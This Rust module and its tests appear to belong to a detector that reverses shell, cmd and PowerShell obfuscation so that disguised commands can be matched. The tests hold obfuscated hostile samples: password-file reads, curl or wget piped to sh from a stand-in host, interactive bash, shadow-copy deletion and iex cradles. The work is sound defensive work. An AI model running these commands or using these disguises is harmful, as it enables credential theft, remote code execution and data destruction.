//! What interpreters undo before they run a command, undone: escapes, characters as numbers, strings put together, turned
//! round or cut out of others, variables, cmd's separators and loops, and a Unix shell's braces and backslashes.
//!
//! These are approximations of several languages at once, on text that need not be any of them. They only ever add a form
//! to match on, so a wrong guess costs nothing but time, and time is bounded: each step is one pass over at most
//! [`FIELD_LIMIT`] bytes and none makes a text longer than that.

mod characters;
mod cmd;
mod operator;
mod shell;
mod strings;
mod substring;
mod variables;

use super::characters::Characters;
use super::normalise::end_of;
use super::note::Notes;
use super::platform::PlatformSet;
use crate::reading::FIELD_LIMIT;
use memchr::{memchr_iter, memchr2};

/// `tidy` with what its interpreter would undo undone; `None` if there is nothing. `lower` is `tidy` in lower case and
/// decides cheaply which steps are worth their time, as do its characters, `bytes`.
pub(super) fn undone(
    tidy: &str,
    lower: &str,
    bytes: Characters,
    systems: PlatformSet,
    notes: &mut Notes,
) -> Option<String> {
    let mut text = Undone { text: None, tidy };
    let has = |part: &str| bytes.all(part.as_bytes()) && lower.contains(part);
    if bytes.has(b'\\') && (escapes_something(lower) || bytes.all(b"$'") && has("$'")) {
        text.step(|text| characters::escapes(text, notes));
    }
    if bytes.has(b'(') && (has("chr") || has("getstring")) || (bytes.has(b'[') || bytes.has(b'(')) && has("char") {
        text.step(|text| characters::numbered(text, notes));
    }
    if bytes.has(b'[') && bytes.has(b'$') || bytes.has(b'~') && has(":~") {
        text.step(|text| substring::cut_out(text, notes));
    }
    let quoted = bytes.has(b'\'') || bytes.has(b'"');
    if quoted && bytes.has(b'+') {
        text.step(|text| strings::joined_by_plus(text, notes));
    }
    if quoted && bytes.has(b'{') && has("-f")
        || quoted && has("replace")
        || quoted && has("-join")
        || bytes.has(b'[') && has("[-1..")
        || bytes.has(b'|') && has("rev")
        || bytes.has(b'<') && has("rev <<<")
    {
        text.step(|text| operator::applied(text, notes));
        if quoted && bytes.has(b'+') {
            text.step(|text| strings::joined_by_plus(text, notes));
        }
    }
    if bytes.has(b'=') && (bytes.has(b'$') || bytes.has(b'%') || bytes.has(b'!')) {
        text.step(|text| variables::substituted(text, notes));
        if quoted && bytes.has(b'+') {
            text.step(|text| strings::joined_by_plus(text, notes));
        }
    }
    if systems.overlaps(PlatformSet::WINDOWS) {
        if bytes.all(b"%()") && has("for %") {
            text.step(|text| cmd::unrolled(text, notes));
        }
        if bytes.has(b',') {
            text.step(cmd::with_spaces);
        }
    }
    if systems.overlaps(PlatformSet::UNIX) {
        if bytes.all(b"${}") && has("${") {
            text.step(|text| shell::without_unset(text, notes));
        }
        if bytes.has(b'{') && bytes.has(b',') {
            text.step(|text| shell::without_braces(text, notes));
        }
        if (bytes.has(b'`') || bytes.all(b"$(")) && (has("echo ") || has("printf ")) {
            text.step(|text| shell::without_echoes(text, notes));
        }
        if bytes.has(b'\\') {
            text.step(|text| shell::without_backslashes(text, notes));
        }
    }
    text.text
}

/// A text on its way through the steps.
struct Undone<'t> {
    text: Option<String>,
    tidy: &'t str,
}

impl Undone<'_> {
    fn step(&mut self, step: impl FnOnce(&str) -> Option<String>) {
        let before = self.text.as_deref().unwrap_or(self.tidy);
        if let Some(after) = step(before)
            && after.len() <= FIELD_LIMIT
        {
            self.text = Some(after);
        }
    }
}

/// Whether there is a backslash before something that makes it an escape.
fn escapes_something(lower: &str) -> bool {
    let bytes = lower.as_bytes();
    memchr_iter(b'\\', bytes).any(|at| matches!(bytes.get(at + 1), Some(b'x' | b'u' | b'0' | b'1')))
}

/// The last word of `text`, behind the last of `separators`, and of a long one only its end: nobody calls a command so, and a
/// text of nothing but references would be read again for each of them.
fn last_word<'t>(text: &'t str, separators: &[char]) -> &'t str {
    const LONGEST: usize = 128;
    end_of(text, LONGEST).rsplit(separators).next().unwrap_or_default()
}

/// The end of `text` without white space.
fn before(text: &str) -> &str {
    text.trim_end_matches([' ', ')'])
}

/// The quoted string that `text` ends with: where it begins, and what it says.
fn last_literal(text: &str) -> Option<(usize, &str)> {
    let quote = text.chars().next_back().filter(|c| matches!(c, '\'' | '"'))?;
    let inside = &text[..text.len() - 1];
    let start = inside.rfind(quote)?;
    Some((start, &inside[start + 1..]))
}

/// The quoted string that `text` begins with, after brackets and spaces, and what follows it.
fn first_literal(text: &str) -> Option<(&str, &str)> {
    let text = text.trim_start_matches([' ', '(', '@', '$']);
    let quote = text.chars().next().filter(|c| matches!(c, '\'' | '"'))?;
    text[1..].split_once(quote)
}

/// A quoted string that says `text`.
fn quoted(text: &str) -> String {
    let quote = if text.contains('\'') { '"' } else { '\'' };
    format!("{quote}{text}{quote}")
}

/// Where `needle` (lower case, ASCII) is in `text`, from `from`, whatever its case there.
fn find_word(text: &str, needle: &str, from: usize) -> Option<usize> {
    let (text, needle) = (text.as_bytes(), needle.as_bytes());
    let first = *needle.first()?;
    let mut at = from;
    loop {
        at += memchr2(first, first.to_ascii_uppercase(), text.get(at..)?)?;
        if text.get(at..at + needle.len())?.eq_ignore_ascii_case(needle) {
            return Some(at);
        }
        at += 1;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::heuristics::normalise::{lowered, stripped};
    use crate::heuristics::note::Note;
    use proptest::prelude::*;

    fn undone_of(written: &str, systems: PlatformSet, notes: &mut Notes) -> Option<String> {
        let lower = written.to_lowercase();
        undone(written, &lower, Characters::of(&lower), systems, notes)
    }

    fn meant(written: &str) -> (String, Notes) {
        let mut notes = Notes::default();
        let text = undone_of(written, PlatformSet::ALL, &mut notes);
        let text = text.unwrap_or_else(|| written.to_owned());
        (lowered(stripped(&text, &mut notes).unwrap_or(text)), notes)
    }

    #[test]
    fn disguises_are_undone_and_noticed() {
        for (written, hidden, note) in [
            (r"bash -c $'\x63\x61\x74 /etc/passwd'", "cat /etc/passwd", Note::Escape),
            (r"printf '\143\141\164\40\57\145'", "cat /e", Note::Escape),
            (r#"node -e "eval('\u0063\u0061\u0074')""#, "eval(cat)", Note::Escape),
            ("iex ([char]0x49+[char]69+[char] 88)", "iex (iex)", Note::Chars),
            ("-join((105,101,120)|%{[char]$_})", "iex", Note::Chars),
            ("[string]::join('',[char[]](73,69,88,32,40))", "iex (", Note::Chars),
            ("Execute(Chr(87)&Chr(115)&Chr(99))", "w&s&c", Note::Chars),
            ("eval(String.fromCharCode(97,108,101,114,116))", "alert", Note::Chars),
            ("& $env:ComSpec[4,24,25]-join'' $x", "& iex-join $x", Note::Substring),
            ("&($ShellId[1]+$ShellId[13]+'x') $y", "&(iex) $y", Note::Substring),
            ("&($PSHome[21]+$pshome[30]+'x')", "x)", Note::Substring),
            ("%comspec:~-7,3% /c whoami", "cmd /c whoami", Note::Substring),
            ("('{2}{0}{1}'-f'lo','ad','down')", "(download)", Note::Format),
            (r#"& ("{1}{0}" -f "x","ie") "{0}""#, "& (iex)", Note::Format),
            ("'dXwnload'.Replace('X','o')", "download", Note::Replace),
            ("('DQwnlQad' -creplace 'Q','o' -replace 'own','OWN')", "download", Note::Replace),
            ("'i','e','x' -join ''", "iex", Note::Concat),
            ("-join('i','e','x')", "iex", Note::Concat),
            ("('xei'[-1..-3] -join '')", "iex", Note::Reverse),
            ("echo 'dwssap/cte/ tac' | rev | sh", "cat /etc/passwd", Note::Reverse),
            ("rev <<< 'di' | bash", "id", Note::Reverse),
            ("a=who;b=ami;$a$b", "whoami", Note::Variable),
            ("x=cat; y=/etc/shadow; ${x} $y", "cat /etc/shadow", Note::Variable),
            ("$a='ie';$b='x'; &($a+$b) $c", "&(iex) $c", Note::Variable),
            ("$c = 'Net.WebClient'; & $c", "& net.webclient", Note::Variable),
            ("cmd /c set x=who&& set y=ami&& call %x%%y%", "whoami", Note::Variable),
            ("cmd /v:on /c \"set a=net&set b=user&!a! !b!\"", "net user", Note::Variable),
            ("{curl,-s,http://x/y}|sh", "curl -s http://x/y|sh", Note::Brace),
            (r"c\at /e\tc/p\asswd", "cat /etc/passwd", Note::Backslash),
            (r"\w\h\o\a\m\i", "whoami", Note::Backslash),
            ("$(echo cu)rl -s; `printf 'ca't`", "curl -s", Note::Concat),
            (r"$(printf '\x63\x75\x72\x6c') -s", "curl -s", Note::Concat),
            ("iex([text.encoding]::ascii.getstring((119,104,111,97,109,105)))", "whoami", Note::Chars),
            ("cmd /c \"set x=whoamiz&& call %x:~0,6%\"", "call whoami", Note::Substring),
            ("cmd /v /c \"set a=xxwhoami&&!a:~2!\"", "&&whoami", Note::Substring),
            ("cmd /c \"set a=whoQQi&& call %a:QQ=am%\"", "call whoami", Note::Substring),
            ("a=xcurlx;${a:1:4} -s", ";curl -s", Note::Substring),
            ("cu${x}rl -s http://x/y|sh", "curl -s http://x/y|sh", Note::Variable),
            ("id; w${_}get -q http://x/y", "; wget -q", Note::Variable),
            ("sh -c 'b${a}a${b}sh -i'", "sh -c bash -i", Note::Variable),
            ("cmd /c for %a in (vssadmin) do %a delete shadows", "do vssadmin delete shadows", Note::Variable),
            ("FOR %%A IN ( net,x ) DO @%%A user", "do @net user", Note::Variable),
            ("for %a in (vss) do for %b in (admin) do @%a%b list", "do @vssadmin list", Note::Variable),
            ("for %a in (a) do whoami&%a", "whoami&a", Note::Variable),
        ] {
            let (text, notes) = meant(written);
            assert!(text.contains(hidden), "{written}\n{text}");
            assert!(notes.has(note), "{written}: {note:?}\n{text}");
        }
    }

    #[test]
    fn what_cmd_reads_as_spaces_is_made_spaces_in_commands_that_begin_so() {
        let undone = |written| undone_of(written, PlatformSet::WINDOWS, &mut Notes::default());
        for (written, meant) in [
            (",;vssadmin,delete,shadows", "  vssadmin delete shadows"),
            ("cmd /c ,;vssadmin,delete;shadows & ab,c", "cmd /c   vssadmin delete shadows & ab c"),
            ("cmd /c (@,net,user)|find \"a,b\"", "cmd /c (@ net user)|find \"a,b\""),
            ("x & vssadmin.exe,delete,shadows>a,b", "x & vssadmin.exe delete shadows>a,b"),
        ] {
            assert_eq!(undone(written).as_deref(), Some(meant), "{written}");
        }
        for written in [
            "rundll32.exe shell32.dll,Control_RunDLL desk.cpl",
            "powershell -c \"Get-Process a,b; ls ,c\"",
            "Get-Process;Stop-Process -Name a",
            "powershell ls |; select a,b",
            "cmd /c echo a,b & echo ;",
            "net user a /times:m-f,8-17",
        ] {
            assert_eq!(undone(written), None, "{written}");
        }
    }

    #[test]
    fn what_administrators_write_is_left_alone() {
        for written in [
            r"C:\Windows\System32\cmd.exe /c C:\Users\x86\run.cmd",
            r"grep -E '\s+\d{1,3}' /var/log/syslog",
            r"sed -i 's/\n/ /g' file",
            "$x = Get-Service; $x | Format-Table Name, Status",
            r#"for f in *.log; do mv "$f" "${f%.log}.txt"; done"#,
            "echo {\"a\":1,\"b\":2} > x.json",
            "tar cf {a,b}.tar",
            "git log --format='%h' -n 5",
            "set PATH=%PATH%;C:\\tools && make",
            "FOO=bar make install",
            "cd /srv/reviews | revive",
            "for /f %i in ('date /t') do echo %date:~0,4%",
            "set d=%date:~-4%& echo %d:~0,2%",
            "V=1.2.3; echo ${V:0:1}; echo $(echo $V) `date`",
            "for i in 1 2; do cp file${i}name out; x=a;b${x}c; done",
            "cat${IFS}etc",
            "for %f in (*.txt) do type %f",
            "for %f in (a b) do copy %f %appdata%\\x",
            "for /f %i in ('dir') do %i",
        ] {
            let mut notes = Notes::default();
            let _ = undone_of(written, PlatformSet::ALL, &mut notes);
            assert!(notes.is_empty(), "{written}: {notes:?}");
        }
    }

    proptest! {
        #[test]
        fn any_text_is_undone_within_bounds_and_the_same_twice(
            pieces in proptest::collection::vec(
                prop_oneof![
                    ".{0,12}",
                    Just("'a'".to_owned()), Just("+".to_owned()), Just("\"{0}{1}\" -f 'a','b'".to_owned()),
                    Just("[char]".to_owned()), Just("0x41".to_owned()), Just("(65,66,67,68)".to_owned()),
                    Just("-join".to_owned()), Just(".replace('a','bb')".to_owned()), Just("[-1..-9]".to_owned()),
                    Just("$a".to_owned()), Just("a=b;".to_owned()), Just("set x=y&".to_owned()), Just("%x%".to_owned()),
                    Just("$env:comspec[4,99,-3]".to_owned()), Just("%comspec:~-99,3%".to_owned()), Just(r"\x41".to_owned()),
                    Just("{a,b}".to_owned()), Just("|rev".to_owned()), Just("rev <<< ".to_owned()), Just(r"\".to_owned()),
                    Just("é".to_owned()), Just("\"".to_owned()), Just("chr(65)".to_owned()), Just("$'".to_owned()),
                ],
                0..40,
            ),
        ) {
            let text: String = pieces.concat();
            let once = undone_of(&text, PlatformSet::ALL, &mut Notes::default());
            let twice = undone_of(&text, PlatformSet::ALL, &mut Notes::default());
            prop_assert_eq!(&once, &twice);
            prop_assert!(once.is_none_or(|text| text.len() <= FIELD_LIMIT));
        }
    }

    #[test]
    fn nothing_grows_without_bound() {
        let repeated = format!("'{}'", "a".repeat(900));
        let format = format!("\"{}\" -f {repeated}", "{0}".repeat(900));
        let replace = format!("{repeated}.replace('a','{}')", "b".repeat(900));
        let variables = format!("a={}; {}", "b".repeat(400), "$a".repeat(3_000));
        for text in [format, replace, variables] {
            let mut notes = Notes::default();
            let undone = undone_of(&text, PlatformSet::ALL, &mut notes);
            assert!(undone.is_none_or(|text| text.len() <= FIELD_LIMIT));
        }
    }
}
